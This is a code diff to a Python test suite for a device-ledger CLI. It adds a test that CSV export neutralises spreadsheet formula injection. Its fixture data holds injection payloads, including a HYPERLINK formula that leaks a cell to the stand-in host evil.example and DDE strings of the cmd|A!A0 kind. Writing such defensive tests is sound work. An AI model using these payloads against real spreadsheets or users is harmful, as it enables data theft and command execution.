@@ -512,8 +512,13 @@ class Supervising(LedgerTest):
 
     def set_times(self, times):
         """Gives the units, oldest first, these times (UTC ISO 8601)."""
-        statements = [f"UPDATE units SET time = '{time}' WHERE id = (SELECT id FROM units ORDER BY id LIMIT 1 OFFSET {i})"
-                      for i, time in enumerate(times)]
+        self.set_column('time', times)
+
+    def set_column(self, column, values):
+        """Gives the units, oldest first, these values in column, as an earlier version, or someone at the
+        database, may have left them."""
+        statements = [f"UPDATE units SET {column} = '{value}' WHERE id = (SELECT id FROM units ORDER BY id LIMIT 1 "
+                      f"OFFSET {i})" for i, value in enumerate(values)]
         if SERVER:
             SERVER.sql(';'.join(statements), self.ledger.rsplit('/', 1)[1])
         else:
@@ -607,6 +612,50 @@ class Supervising(LedgerTest):
                 self.assertNotEqual(killed.returncode, 0)
                 self.assertEqual(out.read_bytes(), before)
         self.assertEqual([name for name in os.listdir(self.folder) if name.startswith('export')], ['export.csv'])
+
+    def test_export_gives_a_spreadsheet_no_formula_to_run(self):
+        import csv
+        import io
+        self.init()
+        cases = [
+            # the station, the SN the file held before, and how a spreadsheet is to get them
+            ('=HYPERLINK("http://evil.example/?"&A3,"bench-2")', '=1+2+cmd|A!A0',
+             '\'=HYPERLINK("http://evil.example/?"&A3,"bench-2")', "'=1+2+cmd|A!A0"),
+            ('+bench', '+1+2+cmd|A!A0', "'+bench", "'+1+2+cmd|A!A0"),
+            ('-bench', '-1+2+cmd|A!A0', "'-bench", "'-1+2+cmd|A!A0"),
+            ('@SUM(1+1)*cmd|A!A0', '@SUM(A1:A9)+1', "'@SUM(1+1)*cmd|A!A0", "'@SUM(A1:A9)+1"),
+            ('\tbench', 'AB=CD+EF-GH@I', "'\tbench", 'AB=CD+EF-GH@I'),  # only a cell's start runs it
+            ('\rbench', 'AB;CD,EF"GH;I', "'\rbench", 'AB;CD,EF"GH;I'),
+            ('bench;2', 'ABCDEFGHIJKLM', 'bench;2', 'ABCDEFGHIJKLM'),
+            ("'bench", 'ABCDEFGHIJKLM', "'bench", 'ABCDEFGHIJKLM'),
+            ('工位 2', 'ABCDEFGHIJKLM', '工位 2', 'ABCDEFGHIJKLM'),
+        ]
+        for i, (station, sn_before, _, _) in enumerate(cases):
+            path = self.folder / f'unit{i}.bin'
+            path.write_bytes(vendor_bytes(sn=sn_before))
+            given = 'bench' if station[0] in '\t\r' else station  # refused now; an older ledger may hold them
+            result = self.cli('assign', path, '--ledger', self.ledger, '--station', given)
+            self.assertEqual(result.returncode, 0, result.stderr)
+        self.set_column('station', [station.replace("'", "''") for station, *_ in cases])
+        listed = self.units()
+        keys = ['mac', 'sn', 'state', 'station', 'host', 'time', 'path', 'mac_before', 'sn_before']
+        # As bytes: text mode would take a CR in a field for a line's end.
+        exported = subprocess.run([CLI, 'ledger', 'export', str(self.ledger)], capture_output=True, timeout=120)
+        self.assertEqual(exported.returncode, 0, exported.stderr)
+        text = exported.stdout.decode()
+        rows = list(csv.reader(io.StringIO(text, newline='')))
+        self.assertEqual(rows[0], keys)
+        self.assertEqual(len(rows), len(cases) + 1)
+        for (station, sn_before, station_cell, sn_cell), unit, row in zip(cases, listed, rows[1:]):
+            with self.subTest(station=station, sn_before=sn_before):
+                self.assertEqual((unit['station'], unit['sn_before']), (station, sn_before))
+                self.assertEqual((row[3], row[8]), (station_cell, sn_cell))
+                self.assertEqual(row[:3] + row[4:8], [unit[key] for key in keys[:3] + keys[4:8]])
+        # Where the separator is a semicolon, a field that holds one is quoted too.
+        for field in ('"bench;2"', '"AB;CD,EF""GH;I"'):
+            self.assertIn(field, text)
+        jsonl = self.cli('ledger', 'export', self.ledger, '--format', 'jsonl').stdout.splitlines()
+        self.assertEqual([json.loads(line) for line in jsonl], listed)  # JSON carries every value as it is
 
     def test_the_ranges_future_from_the_last_24_hours(self):
         self.init('001132000000-00113200012B', 'QVX2612000001-QVX2612001000')  # 300 MACs
